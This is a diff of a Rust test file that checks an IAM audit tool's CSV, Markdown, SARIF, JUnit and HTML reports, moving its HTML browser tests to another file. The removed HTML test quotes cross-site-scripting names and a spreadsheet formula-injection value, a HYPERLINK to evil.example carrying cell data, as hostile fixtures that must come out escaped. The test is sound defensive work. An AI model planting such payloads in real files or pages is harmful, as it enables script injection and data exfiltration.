@@ -4,33 +4,20 @@
 //! Markdown syntax and non-ASCII text). Each output is compared with its
 //! committed insta snapshot, parsed back with the format's standard parser
 //! and checked against the JSON report's counts; SARIF is validated against
-//! the OASIS schema; the HTML page is opened in headless Chromium.
+//! the OASIS schema. The HTML page's own tests, in a real browser, are in
+//! `tests/html.rs`.
 
 mod common;
 
 use std::collections::BTreeMap;
-use std::path::{Path, PathBuf};
 
 use common::*;
 use serde_json::Value;
 
-const FIXTURES: &[(&str, &str)] = &[
-    ("demo", "snapshots/demo"),
-    ("compliant", "snapshots/compliant"),
-    ("org", "snapshots/org"),
-    ("hostile", "tests/fixtures/hostile-names"),
-];
-
 const FORMATS: &[&str] = &["csv", "markdown", "sarif", "junit", "html"];
 
 fn render(path: &str, format: &str) -> String {
-    let out = run(&["evaluate", path, "--format", format]);
-    assert!(
-        matches!(out.status.code(), Some(0 | 1)),
-        "`{format}` of `{path}` failed: {}",
-        stderr(&out)
-    );
-    stdout(&out)
+    render_format(path, format)
 }
 
 fn json(path: &str) -> Value {
@@ -39,7 +26,7 @@ fn json(path: &str) -> Value {
 
 #[test]
 fn every_format_of_every_fixture_matches_its_snapshot() {
-    for (name, path) in FIXTURES {
+    for (name, path) in FORMAT_FIXTURES {
         for format in FORMATS {
             let text = render(path, format);
             assert_eq!(text, render(path, format), "{format} is not deterministic");
@@ -74,7 +61,7 @@ fn a_file_given_with_output_holds_the_same_bytes_as_stdout() {
 #[test]
 fn csv_parses_back_one_row_per_result_with_no_formula_cell() {
     let formula = ['=', '+', '-', '@', '\t', '\r', '\n'];
-    for (_, path) in FIXTURES {
+    for (_, path) in FORMAT_FIXTURES {
         let report = json(path);
         let text = render(path, "csv");
         let mut reader = csv::ReaderBuilder::new()
@@ -146,7 +133,7 @@ fn csv_rows(text: &str) -> Vec<BTreeMap<String, String>> {
 
 #[test]
 fn csv_byte_order_mark_on_request_and_new_columns_after_benchmark_control() {
-    for (_, path) in FIXTURES {
+    for (_, path) in FORMAT_FIXTURES {
         // By default the header's first bytes are `account`, as before.
         let text = render(path, "csv");
         assert!(text.starts_with("account,policy,"), "{path}");
@@ -285,7 +272,7 @@ fn markdown_cells(row: &str) -> usize {
 
 #[test]
 fn markdown_tables_keep_their_shape_with_hostile_names() {
-    for (_, path) in FIXTURES {
+    for (_, path) in FORMAT_FIXTURES {
         let text = render(path, "markdown");
         let mut columns: Option<usize> = None;
         for line in text.lines() {
@@ -338,7 +325,7 @@ fn sarif_validator() -> jsonschema::Validator {
 #[test]
 fn sarif_is_valid_against_the_oasis_schema() {
     let validator = sarif_validator();
-    for (_, path) in FIXTURES {
+    for (_, path) in FORMAT_FIXTURES {
         let log: Value = serde_json::from_str(&render(path, "sarif")).unwrap();
         let errors: Vec<String> = validator
             .iter_errors(&log)
@@ -361,7 +348,7 @@ fn the_sarif_schema_rejects_a_broken_log() {
 
 #[test]
 fn sarif_has_a_rule_per_policy_and_a_result_per_failure_and_error() {
-    for (_, path) in FIXTURES {
+    for (_, path) in FORMAT_FIXTURES {
         let report = json(path);
         let log: Value = serde_json::from_str(&render(path, "sarif")).unwrap();
         let run = &log["runs"][0];
@@ -469,7 +456,7 @@ fn sarif_for_an_envelope_points_at_content_and_for_an_org_prefixes_the_account_f
 
 #[test]
 fn sarif_rules_carry_github_security_severity() {
-    for (_, path) in FIXTURES {
+    for (_, path) in FORMAT_FIXTURES {
         let log: Value = serde_json::from_str(&render(path, "sarif")).unwrap();
         let rules = log["runs"][0]["tool"]["driver"]["rules"]
             .as_array()
@@ -496,7 +483,7 @@ fn sarif_rules_carry_github_security_severity() {
 
 #[test]
 fn sarif_artifact_uris_are_relative_to_a_described_evidence_base() {
-    for (_, path) in FIXTURES {
+    for (_, path) in FORMAT_FIXTURES {
         let log: Value = serde_json::from_str(&render(path, "sarif")).unwrap();
         let run = &log["runs"][0];
         let base = &run["originalUriBaseIds"]["EVIDENCE"];
@@ -596,7 +583,7 @@ fn parse_junit(text: &str) -> JunitCounts {
 
 #[test]
 fn junit_parses_back_and_its_counts_match_the_json_summary() {
-    for (_, path) in FIXTURES {
+    for (_, path) in FORMAT_FIXTURES {
         let report = json(path);
         let text = render(path, "junit");
         let counts = parse_junit(&text);
@@ -636,182 +623,6 @@ fn junit_case_names_round_trip_through_the_xml_parser() {
 }
 
 // --------------------------------------------------------------- HTML
-
-fn html_count(html: &str, status: &str) -> u64 {
-    let marker = format!("id=\"count-{status}\">");
-    let start = html.find(&marker).expect("a count") + marker.len();
-    let end = start + html[start..].find('<').unwrap();
-    html[start..end].parse().unwrap()
-}
-
-#[test]
-fn html_is_self_contained_and_escapes_every_name() {
-    for (_, path) in FIXTURES {
-        let html = render(path, "html");
-        assert_eq!(
-            html.matches("<script").count(),
-            1,
-            "{path}: only our script"
-        );
-        for external in ["src=", "href=", "url(", "@import", "http://", "https://"] {
-            assert!(
-                !html.contains(external) || path.contains("hostile"),
-                "{path}: `{external}` would load something"
-            );
-        }
-        assert!(html.contains("Content-Security-Policy\" content=\"default-src 'none'"));
-    }
-    let html = render("tests/fixtures/hostile-names", "html");
-    assert!(html.contains("user/&lt;script&gt;document.title=&#39;pwned&#39;&lt;/script&gt;"));
-    assert!(html.contains("user/&lt;img src=x onerror=alert(1)&gt;"));
-    assert!(!html.contains("<img"));
-    assert!(!html.contains("<i>x</i>"));
-    // The only `http` in the page is inside escaped evidence text.
-    assert!(html.contains("=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1"));
-}
-
-#[test]
-fn html_counts_match_the_json_summary() {
-    for (_, path) in FIXTURES {
-        let report = json(path);
-        let html = render(path, "html");
-        for status in [
-            "fail",
-            "error",
-            "not-evaluated",
-            "not-applicable",
-            "waived",
-            "pass",
-            "total",
-        ] {
-            assert_eq!(
-                html_count(&html, status),
-                report["summary"][status].as_u64().unwrap(),
-                "{path}: {status}"
-            );
-        }
-        let rows = html.matches("<tr class=\"result ").count() as u64;
-        assert_eq!(rows, report["summary"]["total"].as_u64().unwrap());
-    }
-}
-
-/// Headless Chromium, when installed (`.ci/run` installs it; under `CI` a
-/// missing browser fails the test instead of skipping it).
-fn chromium() -> Option<PathBuf> {
-    for candidate in ["/usr/bin/chromium", "/usr/bin/chromium-browser"] {
-        if Path::new(candidate).exists() {
-            return Some(PathBuf::from(candidate));
-        }
-    }
-    if std::env::var_os("CI").is_some() {
-        panic!("headless Chromium is required under CI: `apt-get install chromium` (.ci/run does)");
-    }
-    eprintln!(
-        "skipping: Chromium is not installed (`apt-get install chromium`); under CI this test runs"
-    );
-    None
-}
-
-/// The DOM after the page's script ran, as Chromium serializes it.
-fn dump_dom(browser: &Path, url: &str) -> String {
-    let profile = tempfile::tempdir().unwrap();
-    let out = std::process::Command::new(browser)
-        .args([
-            "--headless",
-            "--no-sandbox",
-            "--disable-gpu",
-            "--disable-quic",
-            "--no-first-run",
-            "--disable-background-networking",
-            "--disable-component-update",
-            "--disable-sync",
-            "--disable-dev-shm-usage",
-        ])
-        .arg(format!("--user-data-dir={}", profile.path().display()))
-        .arg("--dump-dom")
-        .arg(url)
-        .output()
-        .expect("chromium runs");
-    let dom = String::from_utf8_lossy(&out.stdout).into_owned();
-    assert!(
-        dom.contains("</html>"),
-        "no DOM from chromium: {}",
-        String::from_utf8_lossy(&out.stderr)
-    );
-    dom
-}
-
-fn shown(dom: &str) -> u64 {
-    let marker = "data-shown=\"";
-    let start = dom.find(marker).expect("the shown counter") + marker.len();
-    let end = start + dom[start..].find('"').unwrap();
-    dom[start..end].parse().unwrap()
-}
-
-#[test]
-fn html_in_a_real_browser_shows_the_right_counts_and_runs_no_evidence() {
-    let Some(browser) = chromium() else { return };
-    let tmp = tempfile::tempdir().unwrap();
-    for (name, path) in FIXTURES {
-        let report = json(path);
-        let file = tmp.path().join(format!("{name}.html"));
-        std::fs::write(&file, render(path, "html")).unwrap();
-        let url = format!("file://{}", file.display());
-        let summary = &report["summary"];
-        let n = |k: &str| summary[k].as_u64().unwrap();
-
-        let dom = dump_dom(&browser, &url);
-        for status in [
-            "fail",
-            "error",
-            "not-evaluated",
-            "not-applicable",
-            "pass",
-            "total",
-        ] {
-            assert_eq!(html_count(&dom, status), n(status), "{name}: {status}");
-        }
-        // The script ran (it writes the counter) and shows every result.
-        assert!(dom.contains(&format!("{} of {} results shown", n("total"), n("total"))));
-        assert_eq!(shown(&dom), n("total"));
-        // Nothing from the evidence executed or became an element.
-        assert!(
-            dom.contains("<title>IAM audit report"),
-            "{name}: title changed"
-        );
-        assert_eq!(dom.matches("<script").count(), 1, "{name}");
-        assert!(!dom.contains("<img"), "{name}");
-
-        // Filters, set through the URL as a person would share them.
-        let failing = dump_dom(&browser, &format!("{url}#status=fail"));
-        assert_eq!(shown(&failing), n("fail"), "{name}: status filter");
-        let high_fail = dump_dom(
-            &browser,
-            &format!("{url}#status=fail&control=support-role-trust-requires-mfa"),
-        );
-        let expected = failing_count(&report, "support-role-trust-requires-mfa");
-        assert_eq!(shown(&high_fail), expected, "{name}: control filter");
-        // A malformed part of the fragment is skipped; the others apply.
-        let malformed = dump_dom(&browser, &format!("{url}#q=%E0%A4%A&status=fail"));
-        assert_eq!(shown(&malformed), n("fail"), "{name}: malformed fragment");
-    }
-    // The text filter searches the finding too, not only the subject.
-    let file = tmp.path().join("demo.html");
-    let url = format!("file://{}", file.display());
-    let searched = dump_dom(&browser, &format!("{url}#q=BoolIfExists"));
-    let found = shown(&searched);
-    assert!(found >= 1, "no row found by its finding's text");
-    assert!(found < json("snapshots/demo")["summary"]["total"].as_u64().unwrap());
-}
-
-fn failing_count(report: &Value, policy: &str) -> u64 {
-    report["results"]
-        .as_array()
-        .unwrap()
-        .iter()
-        .filter(|r| r["policy"] == policy && r["status"] == "fail")
-        .count() as u64
-}
 
 /// Several `-o` in one run: each file in the format its extension names,
 /// byte for byte what a run of that format alone writes; an extension that
@@ -881,91 +692,4 @@ fn several_outputs_in_one_run_equal_one_run_per_format() {
     ]);
     assert_eq!(twice.status.code(), Some(2));
     assert!(stderr(&twice).contains("is given twice"));
-}
-
-/// `pdftotext`, for reading back a printed report; required under CI
-/// (`.ci/run` installs `poppler-utils`), else the print test is skipped.
-fn pdftotext() -> Option<PathBuf> {
-    let path = PathBuf::from("/usr/bin/pdftotext");
-    if path.exists() {
-        return Some(path);
-    }
-    if std::env::var_os("CI").is_some() {
-        panic!("pdftotext is required under CI: `apt-get install poppler-utils` (.ci/run does)");
-    }
-    None
-}
-
-/// The HTML report printed to PDF by headless Chromium keeps what an
-/// auditor files: every result's finding whole, its evidence column, the
-/// table header on every page, and none of the filter widgets.
-#[test]
-fn html_prints_every_finding_and_its_evidence() {
-    let (Some(browser), Some(pdftotext)) = (chromium(), pdftotext()) else {
-        return;
-    };
-    let tmp = tempfile::tempdir().unwrap();
-    let html = tmp.path().join("demo.html");
-    std::fs::write(&html, render("snapshots/demo", "html")).unwrap();
-    let pdf = tmp.path().join("demo.pdf");
-    let profile = tempfile::tempdir().unwrap();
-    let out = std::process::Command::new(&browser)
-        .args([
-            "--headless",
-            "--no-sandbox",
-            "--disable-gpu",
-            "--no-first-run",
-            "--disable-background-networking",
-            "--disable-component-update",
-            "--disable-sync",
-            "--disable-dev-shm-usage",
-            "--no-pdf-header-footer",
-        ])
-        .arg(format!("--user-data-dir={}", profile.path().display()))
-        .arg(format!("--print-to-pdf={}", pdf.display()))
-        .arg(format!("file://{}", html.display()))
-        .output()
-        .expect("chromium runs");
-    assert!(
-        pdf.exists(),
-        "no PDF: {}",
-        String::from_utf8_lossy(&out.stderr)
-    );
-    // `-raw`: the text in the order Chromium wrote it, cell by cell, so a
-    // finding wrapped in its column reads whole.
-    let text = std::process::Command::new(pdftotext)
-        .arg("-raw")
-        .arg(&pdf)
-        .arg("-")
-        .output()
-        .expect("pdftotext runs");
-    let text = String::from_utf8_lossy(&text.stdout).into_owned();
-    let squeezed: String = text.chars().filter(|c| !c.is_whitespace()).collect();
-    let report = json("snapshots/demo");
-    let results = report["results"].as_array().unwrap();
-    // Every result that is not a pass, its finding whole.
-    for r in results.iter().filter(|r| r["status"] != "pass") {
-        let message: String = r["message"]
-            .as_str()
-            .unwrap()
-            .replace('`', "")
-            .chars()
-            .filter(|c| !c.is_whitespace())
-            .collect();
-        assert!(squeezed.contains(&message), "finding cut: {}", r["message"]);
-    }
-    // The evidence column: one file name per result row (all rows print).
-    let with_file = |file: &str| {
-        results
-            .iter()
-            .filter(|r| r["location"]["file"] == file)
-            .count()
-    };
-    let tail_count = |tail: &str| text.matches(tail).count();
-    assert!(tail_count("report.json") >= with_file("credential-report.json"));
-    assert!(tail_count("details.json") >= with_file("authorization-details.json"));
-    // The header repeats on every page the results table spans.
-    assert!(text.matches("STATUS").count() >= 2, "{text}");
-    // No widgets.
-    assert!(!text.contains("results shown"));
 }
